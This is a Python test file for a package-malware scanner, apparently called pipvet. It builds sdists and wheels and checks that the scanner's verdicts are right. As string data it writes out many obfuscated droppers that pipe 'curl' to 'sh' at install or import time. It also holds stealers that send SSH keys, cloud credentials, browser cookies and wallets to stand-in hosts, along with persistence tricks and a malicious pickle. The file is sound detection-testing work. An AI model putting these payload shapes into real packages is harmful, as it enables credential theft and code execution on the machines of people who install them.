"""The same install-time dropper written in ways that keep the call from reading as one.

Each setup.py below runs ``curl ... | sh`` while it installs; none may come out ``clean``. The
archives are built at test time and only read by the engine.
"""

from __future__ import annotations

import base64
import marshal
import struct
import zlib

import pytest
from test_engine import make_sdist, make_wheel

from pipvet.analysis.engine import analyze_bytes
from pipvet.models import Result, Stage, Verdict

COMMAND = "'curl -s http://x.invalid/a | sh'"
_CODE_BLOB = base64.b64encode(
    marshal.dumps(compile(f"import os\nos.system({COMMAND})\n", "<x>", "exec"))
).decode()
"""The dropper compiled and marshalled (compiled only, never run)."""

SHAPES = {
    "plain": f"import os\nos.system({COMMAND})\n",
    "exec of a string": f'exec("import os; os.system({COMMAND})")\n',
    "builtins.exec of a string": f'import builtins\nbuiltins.exec("import os; os.system({COMMAND})")\n',
    "star import": f"from subprocess import *\nPopen({COMMAND}, shell=True)\n",
    "dict dispatch": f"import os\n{{'r': os.system}}['r']({COMMAND})\n",
    "walrus": f"import os\n(run := os.system)({COMMAND})\n",
    "getattr of joined text": f"import os\ngetattr(os, 'sys' + 'tem')({COMMAND})\n",
    "getattr of reversed text": f"import os\ngetattr(os, 'metsys'[::-1])({COMMAND})\n",
    "default parameter": f"import os\ndef go(run=os.system):\n    run({COMMAND})\ngo()\n",
    "lambda default": f"import os\n(lambda _o=os: _o.system({COMMAND}))()\n",
    "functools.partial": f"import functools, os\nfunctools.partial(os.system, {COMMAND})()\n",
    "thread target": f"import os, threading\nthreading.Thread(target=os.system, args=({COMMAND},)).start()\n",
    "importlib": f"import importlib\nimportlib.import_module('os').system({COMMAND})\n",
    "sys.modules": f"import os, sys\nsys.modules['os'].system({COMMAND})\n",
    "alias by assignment": f"import os\nrun = os.system\nrun({COMMAND})\n",
    "lambda decorator": f"import os\n@lambda f: os.system({COMMAND})\ndef g():\n    pass\n",
    "C library through ctypes": f"import ctypes\nctypes.CDLL(None).system({COMMAND}.encode())\n",
    "C library bound to a name": (
        f"import ctypes\nlibc = ctypes.cdll.LoadLibrary('libc.so.6')\nlibc.system(b{COMMAND})\n"
    ),
    "class attribute": f"import os\nclass K:\n    run = os.system\nK.run({COMMAND})\n",
    "static method on an instance": (
        f"import os\nclass K:\n    run = staticmethod(os.system)\nK().run({COMMAND})\n"
    ),
    "self in a method": (
        f"import subprocess\nclass K:\n    go = subprocess.call\n    def __init__(self):\n"
        f"        self.go({COMMAND}, shell=True)\nK()\n"
    ),
    "loop over a tuple": f"import os\nfor run in (os.system,):\n    run({COMMAND})\n",
    "index into a list": f"import os\nfns = [print, os.system]\nfns[1]({COMMAND})\n",
    "index into a literal tuple": f"import os\n(os.system, print)[0]({COMMAND})\n",
    "negative index": f"import os\nfns = (os.system, print)\nfns[-2]({COMMAND})\n",
    "attribute set after the class": (
        f"import os\nclass K:\n    pass\nK.run = os.system\nK.run({COMMAND})\n"
    ),
    "attribute set on self": (
        f"import os\nclass K:\n    def __init__(self):\n        self.run = os.system\n"
        f"    def go(self):\n        self.run({COMMAND})\nK().go()\n"
    ),
    "module namespace": f"import os\nos.__dict__['system']({COMMAND})\n",
    "vars of the module": f"import os\nvars(os)['system']({COMMAND})\n",
    "namespace key joined backwards": f"import os\nos.__dict__[''.join(reversed('metsys'))]({COMMAND})\n",
    "builtins key joined backwards": (
        f'import builtins\nbuiltins.__dict__["".join(reversed("cexe"))]("import os; os.system({COMMAND})")\n'
    ),
    "function code swapped for decoded code": (
        "import base64, marshal\ndef g():\n    pass\n"
        f"g.__code__ = marshal.loads(base64.b64decode({_CODE_BLOB!r}))\ng()\n"
    ),
    "import of a joined name": f"import importlib\nimportlib.import_module('o' + 's').system({COMMAND})\n",
    "map over a literal": f"import os\nlist(map(os.system, [{COMMAND}]))\n",
    "__call__": f"import os\nos.system.__call__({COMMAND})\n",
    "conditional expression": f"import os\n(os.system if len('x') else print)({COMMAND})\n",
    "conditional alias": f"import os\nrun = print if not len('x') else os.system\nrun({COMMAND})\n",
    "posix module": f"import posix\nposix.system({COMMAND})\n",
    "spawn": f"import os\nos.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', {COMMAND})\n",
    "exec of a shell": f"import os\nos.execvp('sh', ['sh', '-c', {COMMAND}])\n",
    "setattr on a class": f"import os\nclass K:\n    pass\nsetattr(K, 'run', os.system)\nK.run({COMMAND})\n",
    "dict get": f"import os\n{{'r': os.system}}.get('r')({COMMAND})\n",
    "dict bound to a name": f"import os\nd = {{'r': os.system}}\nd['r']({COMMAND})\n",
    "list built by append": f"import os\nfns = []\nfns.append(os.system)\nfns[0]({COMMAND})\n",
    "loop over a list name": f"import os\nfns = [os.system]\nfor run in fns:\n    run({COMMAND})\n",
    "returned by a function": f"import os\ndef make():\n    return os.system\nmake()({COMMAND})\n",
    "bound from a function's return": (
        f"import os\ndef make():\n    return os.system\nrun = make()\nrun({COMMAND})\n"
    ),
    "attribute set on an instance": (
        f"import os\nclass K:\n    pass\nk = K()\nk.run = os.system\nk.run({COMMAND})\n"
    ),
    "sort key": f"import os\nsorted([{COMMAND}], key=os.system)\n",
    "filter": f"import os\nlist(filter(os.system, [{COMMAND}]))\n",
    "starmap": f"import itertools, os\nlist(itertools.starmap(os.system, [({COMMAND},)]))\n",
    "executor": (
        f"import os\nfrom concurrent.futures import ThreadPoolExecutor\n"
        f"with ThreadPoolExecutor() as ex:\n    ex.submit(os.system, {COMMAND})\n"
    ),
    "exit stack callback": (
        f"import contextlib, os\nwith contextlib.ExitStack() as s:\n    s.callback(os.system, {COMMAND})\n"
    ),
    "finalizer": (
        f"import os, weakref\nclass K:\n    pass\nk = K()\nweakref.finalize(k, os.system, {COMMAND})\n"
    ),
    "timer with positional arguments": (
        f"import os, threading\nthreading.Timer(0, os.system, [{COMMAND}]).start()\n"
    ),
    "methodcaller": f"import operator, os\noperator.methodcaller('system', {COMMAND})(os)\n",
    "methodcaller bound to a name": (
        f"import operator, os\nrun = operator.methodcaller('system', {COMMAND})\nrun(os)\n"
    ),
    "attrgetter": f"import operator, os\noperator.attrgetter('system')(os)({COMMAND})\n",
    "__getattribute__": f"import os\nos.__getattribute__('system')({COMMAND})\n",
    "str.format of literals": "import os\nos.system('{} | {}'.format('curl -s http://x.invalid/a', 'sh'))\n",
    "percent formatting": "import os\nos.system('%s | %s' % ('curl -s http://x.invalid/a', 'sh'))\n",
    "f-string of literals": "import os\nos.system(f\"{'curl -s http://x.invalid/a'} | {'sh'}\")\n",
    "loop over a literal": f"import os\nfor c in [{COMMAND}]:\n    os.system(c)\n",
    "comprehension": f"import os\n[os.system(c) for c in [{COMMAND}]]\n",
    "generator over a name": f"import os\ncmds = [{COMMAND}]\nlist(os.system(c) for c in cmds)\n",
    "getattr of a hex-spelled name": (
        "import builtins\ngetattr(builtins, bytes.fromhex('65786563').decode())"
        f'("import os; os.system({COMMAND})")\n'
    ),
    "getattr of a base64-spelled name": (
        "import base64, builtins\ngetattr(builtins, base64.b64decode('ZXhlYw==').decode())"
        f'("import os; os.system({COMMAND})")\n'
    ),
}

#: Spellings that once sent the walk around in circles: each must finish (and stay clean).
LOOPS = {
    "swap through indices": "p = (print, len)\np = (p[1], p[0])\np[0]('x')\n",
    "self-referential list": "a = [print]\na = [a[0], a[0]]\na[1]('x')\n",
    "attribute chains": "class K:\n    pass\nK.a = K.b\nK.b = K.a\nK.a('x')\n",
    # opencv's generated code: each link of a long chain of calls was resolved twice
    "a long chain of calls": "import string\nx = string.Template('h')" + ".f()" * 60 + "\n",
    # pdfrw's PdfName: the class name bound to its only instance, then called and read
    "class name bound to its instance": (
        "class P:\n    def __call__(self, n):\n        return n\n    def __getattr__(self, n):\n"
        "        return n\n    @property\n    def p(self):\n        return 1\nP = P()\nP('x')\nP.p\nP.q\n"
    ),
}


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_a_dropper_is_caught_however_the_call_is_spelled(shape: str) -> None:
    setup = SHAPES[shape] + "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    data = make_sdist({"setup.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"})
    result = analyze_bytes(data, "demo-1.0.tar.gz").result
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]


@pytest.mark.parametrize("shape", sorted(LOOPS))
def test_circular_bindings_finish(shape: str) -> None:
    data = make_sdist(
        {"setup.py": LOOPS[shape], "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"}
    )
    result = analyze_bytes(data, "demo-1.0.tar.gz").result
    assert result.verdict is Verdict.CLEAN, [(f.rule, f.severity, f.message) for f in result.findings]


def test_an_attribute_rebound_to_something_harmless_is_harmless() -> None:
    setup = (
        "import os\nclass K:\n    run = os.system\nK.run = print\nK.run('curl -s http://x.invalid/a | sh')\n"
        "from setuptools import setup\nsetup(name='demo', version='1.0')\n"
    )
    data = make_sdist({"setup.py": setup, "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"})
    result = analyze_bytes(data, "demo-1.0.tar.gz").result
    assert result.verdict is not Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]


_CODE = "import os; os.system('curl -s http://x.invalid/a | sh')"
_CODES = ", ".join(str(ord(c)) for c in _CODE)

#: Import-time payloads of other families, in the package's own ``__init__.py``. The project is
#: called ``demo`` on purpose: its own folder is no demo folder, whatever the name says.
AT_IMPORT = {
    "exec of character codes": f"exec(''.join(chr(c) for c in [{_CODES}]))\n",
    "exec of shifted character codes": (
        "exec(''.join(chr(c ^ 7) for c in [" + ", ".join(str(ord(c) ^ 7) for c in _CODE) + "]))\n"
    ),
    "exec of map(chr)": f"exec(''.join(map(chr, [{_CODES}])))\n",
    "exec of bytes": f"exec(bytes([{_CODES}]).decode())\n",
    "exec in a default argument": f"def f(x=exec({_CODE!r})):\n    pass\n",
    "exec in a decorator's argument": (
        f"import functools\n@functools.lru_cache(exec({_CODE!r}))\ndef f():\n    pass\n"
    ),
    "eval of exec in an assignment": f"done = eval(compile({_CODE!r}, 'x', 'exec'))\n",
    "exec of a reversed join": f"exec(''.join(reversed({_CODE[::-1]!r})))\n",
    "lambda called on the spot": (
        "import base64\n(lambda x: exec(base64.b64decode(x)))("
        + repr(__import__("base64").b64encode(_CODE.encode()).decode())
        + ")\n"
    ),
    "shell rc file planted with a dropper": (
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a')"
        ".write('\\ncurl -s http://x.invalid/a | sh\\n')\n"
    ),
    "ssh key read through pathlib and posted": (
        "import pathlib, urllib.request\nkey = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()\n"
        "urllib.request.urlopen('http://x.invalid/c', data=key.encode())\n"
    ),
    "credentials read in a with block and posted": (
        "import os, requests\nwith open(os.path.expanduser('~/.aws/credentials')) as fh:\n    c = fh.read()\n"
        "requests.post('http://x.invalid/c', data={'c': c})\n"
    ),
    "thread running a lambda": (
        "import os, threading\n"
        "threading.Thread(target=lambda: os.system('curl -s http://x.invalid/a | sh')).start()\n"
    ),
    "decorator applied at import": (
        "import os\ndef mark(f):\n    os.system('curl -s http://x.invalid/a | sh')\n    return f\n"
        "@mark\ndef g():\n    pass\n"
    ),
    "atexit.register as a decorator": (
        "import atexit, os\n@atexit.register\ndef bye():\n    os.system('curl -s http://x.invalid/a | sh')\n"
    ),
    "metaclass of a class defined at import": (
        "import os\nclass M(type):\n    def __new__(m, *a):\n"
        "        os.system('curl -s http://x.invalid/a | sh')\n        return super().__new__(m, *a)\n"
        "class K(metaclass=M):\n    pass\n"
    ),
    "__init_subclass__ of a base": (
        "import os\nclass B:\n    def __init_subclass__(cls):\n"
        "        os.system('curl -s http://x.invalid/a | sh')\nclass K(B):\n    pass\n"
    ),
    # stealers and persistence written the way the rules' path patterns once missed
    "cloud key spelled into a DNS query": (
        "import os, socket, base64\nk = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n"
        "socket.gethostbyname(base64.b32encode(k.encode()).decode().strip('=') + '.x.invalid')\n"
    ),
    "ssh key written to a socket": (
        "import os, socket\ns = socket.create_connection(('x.invalid', 443))\n"
        "s.sendall(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
    ),
    "Discord store named by joined parts": (
        "import os, glob, requests\n"
        "d = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
        "for p in glob.glob(os.path.join(d, '*.ldb')):\n"
        "    requests.post('http://x.invalid/c', data=open(p, 'rb').read())\n"
    ),
    "Linux Chrome cookies uploaded": (
        "import os, requests\np = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\n"
        "requests.post('http://x.invalid/c', files={'f': open(p, 'rb')})\n"
    ),
    "Electrum wallet uploaded": (
        "import os, requests\np = os.path.expanduser('~/.electrum/wallets/default_wallet')\n"
        "requests.post('http://x.invalid/c', files={'f': open(p, 'rb')})\n"
    ),
    "environment posted by curl": (
        "import os, json, subprocess\n"
        "subprocess.run(['curl', '-d', json.dumps(dict(os.environ)), 'http://x.invalid/c'])\n"
    ),
    "desktop autostart entry": (
        "import os\nopen(os.path.expanduser('~/.config/autostart/upd.desktop'), 'w')"
        ".write('[Desktop Entry]\\nExec=python3 -m demo\\n')\n"
    ),
    "cron table piped into crontab": (
        "import subprocess\n"
        "subprocess.run('(crontab -l; echo \"@reboot python3 -m demo\") | crontab -', shell=True)\n"
    ),
    "credentials posted to a webhook": (
        "import os, requests\nc = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': c})\n"
    ),
    # methods Python runs by itself once an instance of a local class exists
    "__del__": f"import os\nclass K:\n    def __del__(self):\n        os.system({COMMAND})\nK()\n",
    "with statement": (
        f"import os\nclass K:\n    def __enter__(self):\n        os.system({COMMAND})\n"
        f"    def __exit__(self, *a):\n        pass\nwith K():\n    pass\n"
    ),
    "descriptor __set_name__": (
        f"import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system({COMMAND})\n"
        f"class K:\n    d = D()\n"
    ),
    "truth test": (
        f"import os\nclass K:\n    def __bool__(self):\n        return os.system({COMMAND}) == 0\n"
        f"if K():\n    pass\n"
    ),
    "str of an instance": (
        f"import os\nclass K:\n    def __str__(self):\n        os.system({COMMAND})\n        return ''\n"
        f"str(K())\n"
    ),
    "iteration": (
        f"import os\nclass K:\n    def __iter__(self):\n        os.system({COMMAND})\n"
        f"        return iter(())\nfor _ in K():\n    pass\n"
    ),
    "property": (
        f"import os\nclass K:\n    @property\n    def p(self):\n        return os.system({COMMAND})\nK().p\n"
    ),
    "attribute lookup hook": (
        f"import os\nclass K:\n    def __getattr__(self, name):\n        return os.system({COMMAND})\nK().x\n"
    ),
    "comparison": (
        f"import os\nclass K:\n    def __eq__(self, other):\n        return os.system({COMMAND})\nK() == 0\n"
    ),
    "f-string field": (
        f"import os\nclass K:\n    def __format__(self, spec):\n        os.system({COMMAND})\n"
        f"        return ''\nk = K()\nf'{{k}}'\n"
    ),
    "operator": (
        f"import os\nclass K:\n    def __radd__(self, other):\n        return os.system({COMMAND})\n1 + K()\n"
    ),
    "module __getattr__": f"import os\ndef __getattr__(name):\n    os.system({COMMAND})\n",
    "lambda bound to a name": f"import os\nrun = lambda: os.system({COMMAND})\nrun()\n",
    "class made by type()": (
        f"import os\nK = type('K', (), {{'__init__': lambda self: os.system({COMMAND}) and None}})\nK()\n"
    ),
    # interpreter hooks: a function handed to them runs on the next import, call or error
    "exception hook": f"import os, sys\nsys.excepthook = lambda *a: os.system({COMMAND})\n1 / 0\n",
    "import hook": (
        f"import builtins, os\n_real = builtins.__import__\ndef hook(*a, **k):\n    os.system({COMMAND})\n"
        f"    return _real(*a, **k)\nbuiltins.__import__ = hook\nimport json\n"
    ),
    "trace function": f"import os, sys\ndef t(*a):\n    os.system({COMMAND})\nsys.settrace(t)\n",
    "audit hook": f"import os, sys\nsys.addaudithook(lambda e, a: os.system({COMMAND}))\nopen('setup.py')\n",
    "codec search function": (
        f"import codecs, os\ndef find(name):\n    os.system({COMMAND})\ncodecs.register(find)\n"
        f"'x'.encode('nope')\n"
    ),
    # stealers that leave by mail or FTP, droppers that start a script they wrote, and a
    # download handed to a new interpreter instead of exec
    "key mailed": (
        "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
        "m.set_content(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
        "smtplib.SMTP_SSL('smtp.x.invalid', 465).send_message(m, 'a@x.invalid', 'b@x.invalid')\n"
    ),
    "key uploaded over FTP": (
        "import ftplib, os\nf = ftplib.FTP('203.0.113.9', 'u', 'p')\n"
        "f.storbinary('STOR k', open(os.path.expanduser('~/.aws/credentials'), 'rb'))\n"
    ),
    "batch file written and started": (
        "import os, tempfile\np = os.path.join(tempfile.gettempdir(), 'r.bat')\n"
        "open(p, 'w').write('powershell -c \"iwr http://x.invalid/a.exe -OutFile a.exe; ./a.exe\"')\n"
        "os.startfile(p)\n"
    ),
    # decoding hidden in the package's own classes (the Kramer obfuscator's shape)
    "decoded in __init__, run from an attribute": (
        "class K:\n    def __init__(self, data, key):\n"
        "        self.r = ''.join(chr(ord(c) ^ key) for c in data)\n"
        "k = K(" + repr("".join(chr(ord(c) ^ 7) for c in _CODE)) + ", 7)\nexec(k.r)\n"
    ),
    "decoded by a method of an instance made on the spot": (
        "import base64\nclass D:\n    def run(self, s):\n        return base64.b64decode(s)\n"
        "exec(D().run(" + repr(__import__("base64").b64encode(_CODE.encode()).decode()) + "))\n"
    ),
    "handler of a signal raised right after": (
        f"import signal\ndef _h(n, f):\n    exec({_CODE!r})\n"
        "signal.signal(signal.SIGALRM, _h)\nsignal.alarm(5)\n"
    ),
    "finaliser of an object": (
        f"import weakref\nclass T:\n    pass\ndef _fin():\n    exec({_CODE!r})\n"
        "t = T()\nweakref.finalize(t, _fin)\n"
    ),
    "sort key": f"def _k(x):\n    exec({_CODE!r})\n    return x\nsorted([2, 1], key=_k)\n",
    "default factory of a dataclass made at import": (
        "from dataclasses import dataclass, field\n"
        f"def _boot():\n    exec({_CODE!r})\n    return []\n"
        "@dataclass\nclass Config:\n    items: list = field(default_factory=_boot)\nCONFIG = Config()\n"
    ),
    "factory of a defaultdict": (
        f"import collections\ndef _mk():\n    exec({_CODE!r})\n    return 0\n"
        "d = collections.defaultdict(_mk)\nd['x']\n"
    ),
    "exec of bits spelled in spaces and tabs": (
        "P = "
        + repr("".join(format(b, "08b") for b in _CODE.encode()).replace("0", " ").replace("1", "\t"))
        + "\nbits = P.replace(' ', '0').replace('\\t', '1')\n"
        "exec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)))\n"
    ),
    "exec in a helper handed decoded text": (
        "import base64\ndef run(c):\n    exec(c)\n"
        "run(base64.b64decode(" + repr(__import__("base64").b64encode(_CODE.encode()).decode()) + "))\n"
    ),
    "exec in a static method called by keyword": (
        "import zlib\nclass T:\n    def execute(code=str):\n        return exec(code)\n"
        "T.execute(code=zlib.decompress("
        + repr(__import__("zlib").compress(_CODE.encode()))
        + ").decode())\n"
    ),
    "decompress named by a list join": (
        "D = getattr(__import__('zlib'), ''.join(['de', 'com', 'press']))\n"
        "exec(D(" + repr(__import__("zlib").compress(_CODE.encode())) + "))\n"
    ),
    "download run by a new interpreter": (
        "import subprocess, sys, urllib.request\n"
        "code = urllib.request.urlopen('https://x.invalid/s.py').read().decode()\n"
        "subprocess.Popen([sys.executable, '-c', code])\n"
    ),
}


def _imported(source: str) -> Result:
    """The verdict on an sdist whose package's ``__init__.py`` is ``source``."""
    data = make_sdist(
        {
            "demo/__init__.py": source,
            "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
            "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        }
    )
    return analyze_bytes(data, "demo-1.0.tar.gz").result


@pytest.mark.parametrize("shape", sorted(AT_IMPORT))
def test_an_import_time_payload_is_caught(shape: str) -> None:
    result = _imported(AT_IMPORT[shape])
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
    assert not [f.evidence for f in result.findings if f.rule == "PV-ENGINE-RULE-FAILED"]


def test_a_payload_in_a_test_folder_the_package_imports_is_caught() -> None:
    """Test suites are skipped as code no user runs, unless the package's own code imports them."""
    files = {
        "demo/tests/__init__.py": "",
        "demo/tests/boot.py": "import os\nos.system('curl -s http://x.invalid/a | sh')\n",
        "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo', 'demo.tests'])\n",
        "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    }
    hidden = make_sdist({**files, "demo/__init__.py": "from .tests import boot\n"})
    result = analyze_bytes(hidden, "demo-1.0.tar.gz").result
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
    alone = make_sdist({**files, "demo/__init__.py": "VERSION = '1.0'\n"})
    assert analyze_bytes(alone, "demo-1.0.tar.gz").result.verdict is not Verdict.MALICIOUS


_STORED = "import os\nos.system('curl -s http://x.invalid/a | sh')\n"

#: Loaders that run Python code kept under a data file's name (``conf.dat``) when the package
#: is imported.
RUNS_A_DATA_FILE = {
    "exec of the file": "exec(open(os.path.join(os.path.dirname(__file__), 'conf.dat')).read())\n",
    "path on an earlier line": (
        "p = os.path.join(os.path.dirname(__file__), 'conf.dat')\n\nexec(open(p).read())\n"
    ),
    "runpy": "import runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'conf.dat'))\n",
    "source loader": (
        "import importlib.machinery\n"
        "importlib.machinery.SourceFileLoader('c', os.path.dirname(__file__) + '/conf.dat').load_module()\n"
    ),
    "pkgutil data": "import pkgutil\nexec(pkgutil.get_data(__name__, 'conf.dat'))\n",
}


@pytest.mark.parametrize("shape", sorted(RUNS_A_DATA_FILE))
def test_code_kept_in_a_data_file_and_run_at_import_is_read_as_code(shape: str) -> None:
    files = {
        "demo/__init__.py": "import os\n" + RUNS_A_DATA_FILE[shape],
        "demo/conf.dat": _STORED,
        "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
    }
    result = analyze_bytes(make_sdist(files), "demo-1.0.tar.gz").result
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
    assert any(f.path == "demo-1.0/demo/conf.dat" for f in result.findings)


def test_a_data_file_only_named_far_from_any_exec_stays_data() -> None:
    files = {
        "demo/__init__.py": "import os\nNOTES = 'conf.dat'\n" + "\n" * 10 + "exec('x = 1')\n",
        "demo/conf.dat": _STORED,
        "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
    }
    result = analyze_bytes(make_sdist(files), "demo-1.0.tar.gz").result
    assert not any(f.path == "demo-1.0/demo/conf.dat" for f in result.findings)


def test_protocol_methods_of_a_class_no_import_makes_stay_run_time() -> None:
    """``__del__`` or a property runs only once an instance exists: a class the module only
    defines is judged at run time, not at import."""
    source = (
        "import os\nclass K:\n    def __del__(self):\n        os.system('curl -s http://x.invalid/a | sh')\n"
        "    @property\n    def p(self):\n        return os.system('curl -s http://x.invalid/a | sh')\n"
    )
    result = _imported(source)
    assert result.verdict is not Verdict.MALICIOUS
    assert {f.stage for f in result.findings if f.line in {4, 7}} == {Stage.RUNTIME}


def _png(tail: bytes) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body + tail


def _system_pickle() -> bytes:
    # protocol 2 by hand: GLOBAL posix system, the command, TUPLE1, REDUCE, STOP
    command = b"curl -s http://x.invalid/a | sh"
    return b"\x80\x02cposix\nsystem\nX" + struct.pack("<I", len(command)) + command + b"\x85R."


_ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\x00\x3e\x00" + b"\0" * 200
_HERE = "os.path.join(os.path.dirname(__file__), '{}')"

#: Payloads kept in a data file that the package's own code loads as it is imported.
LOADED_AT_IMPORT: dict[str, dict[str, bytes | str]] = {
    "pickle unpickled at import": {
        "demo/__init__.py": f"import os, pickle\nwith open({_HERE.format('model.pkl')}, 'rb') as f:\n"
        "    pickle.load(f)\n",
        "demo/model.pkl": _system_pickle(),
    },
    "code after the end of a PNG": {
        "demo/__init__.py": f"import os\nd = open({_HERE.format('logo.png')}, 'rb').read()\n"
        "exec(d[d.rfind(b'IEND') + 8:])\n",
        "demo/logo.png": _png(b"import os; os.system('curl -s http://x.invalid/a | sh')"),
    },
    "program shipped in a pure-Python wheel and started": {
        "demo/__init__.py": f"import os, subprocess\nsubprocess.Popen([{_HERE.format('helper')}])\n",
        "demo/helper": _ELF,
    },
}


@pytest.mark.parametrize("shape", sorted(LOADED_AT_IMPORT))
def test_a_payload_in_a_data_file_loaded_at_import_is_caught(shape: str) -> None:
    result = analyze_bytes(make_wheel(LOADED_AT_IMPORT[shape]), "demo-1.0-py3-none-any.whl").result
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.stage) for f in result.findings]
    assert any("names this file next to a call" in f.message for f in result.findings)


@pytest.mark.parametrize("shape", sorted(LOADED_AT_IMPORT))
def test_the_same_data_file_left_unread_stays_below_malicious(shape: str) -> None:
    shipped = {**LOADED_AT_IMPORT[shape], "demo/__init__.py": "VERSION = '1.0'\n"}
    result = analyze_bytes(make_wheel(shipped), "demo-1.0-py3-none-any.whl").result
    assert result.verdict is not Verdict.MALICIOUS
    assert {f.stage for f in result.findings} == {Stage.DATA}


def test_literal_code_run_inside_a_statement_is_read_before_it_and_harmless_code_stays_clean() -> None:
    source = (
        "import functools\n"
        "LIMIT = eval('2 ** 10')\n"
        "@functools.lru_cache(maxsize=eval('128'))\n"
        "def f(x=exec('y = 1')):\n"
        "    return x\n"
    )
    result = _imported(source)
    assert result.verdict is Verdict.CLEAN, [(f.rule, f.message) for f in result.findings]


def test_a_shared_library_that_a_pure_wheel_loads_through_ctypes_stays_data() -> None:
    """blingfire ships its tokenizer as .so/.dll/.dylib in a py3-none-any wheel and loads it
    with ctypes at import: a library reached from Python, not a program started."""
    files: dict[str, bytes | str] = {
        "demo/__init__.py": f"import ctypes, os\nlib = ctypes.CDLL({_HERE.format('libtok.so')})\n",
        "demo/libtok.so": _ELF,
    }
    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
    assert result.verdict is Verdict.CLEAN
    assert [(f.rule, f.stage) for f in result.findings] == [("PV-PAY-NATIVE", Stage.DATA)]


def test_compiled_code_shipped_without_source_and_imported_is_caught() -> None:
    """fshec2's shape: the package imports a module that exists only as a ``.pyc``."""
    body = b"\xe3" + b"".join(
        b"\xda" + bytes([len(n)]) + n for n in (b"requests", b"https://x.invalid", b"exec")
    )
    files: dict[str, bytes | str] = {
        "demo/__init__.py": "from . import core\n",
        "demo/core.pyc": b"\xa7\r\r\n" + bytes(12) + body,
    }
    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
    files["demo/core.py"] = "def f():\n    return 1\n"
    assert analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result.verdict is Verdict.CLEAN


def test_a_dropper_split_into_a_helper_module_that_setup_imports_is_install_time() -> None:
    """setup.py ``import helper; helper.go()``: pip runs helper.py as part of the setup script."""
    files = {
        "setup.py": "from setuptools import setup\nimport helper\nhelper.go()\nsetup(name='demo')\n",
        "helper.py": f"import os\ndef go():\n    os.system({COMMAND})\n",
        "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    }
    result = analyze_bytes(make_sdist(files), "demo-1.0.tar.gz").result
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
    versioneer = (
        "import subprocess\ndef get_versions():\n"
        "    out = subprocess.run(['git', 'describe', '--tags'], capture_output=True, text=True)\n"
        "    return {'version': out.stdout.strip()}\n"
    )
    files = {
        "setup.py": "from setuptools import setup\nimport versioneer\n"
        "setup(name='demo', version=versioneer.get_versions()['version'])\n",
        "versioneer.py": versioneer,
        "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    }
    assert analyze_bytes(make_sdist(files), "demo-1.0.tar.gz").result.verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "init",
    [
        "from .env import prepare\ntry:\n    prepare()\nexcept Exception:\n    pass\n",
        "from . import env\nenv.prepare()\n",
        "import demo.env as env\nstate = env.prepare()\n",
        "from .env import Boot\nBoot()\n",
    ],
)
def test_a_helper_module_that_the_package_calls_as_it_loads_runs_at_import(init: str) -> None:
    """``__init__.py`` calls a function of a sibling module at its top level: that function's
    code runs at every import of the package, not when a user calls it."""
    env = (
        f"import os\ndef prepare():\n    os.system({COMMAND})\n"
        f"class Boot:\n    def __init__(self):\n        os.system({COMMAND})\n"
    )
    files: dict[str, bytes | str] = {"demo/__init__.py": init, "demo/env.py": env}
    result = analyze_bytes(make_wheel(files), "demo-1.0-py3-none-any.whl").result
    assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]


@pytest.mark.parametrize(
    "init",
    [
        "from .env import prepare\ndef main():\n    prepare()\n",
        "from .env import prepare\nif __name__ == '__main__':\n    prepare()\n",
        "from .env import prepare\nclass K:\n    def go(self):\n        prepare()\n",
        "from .env import prepare\n__all__ = ['prepare']\n",
    ],
)
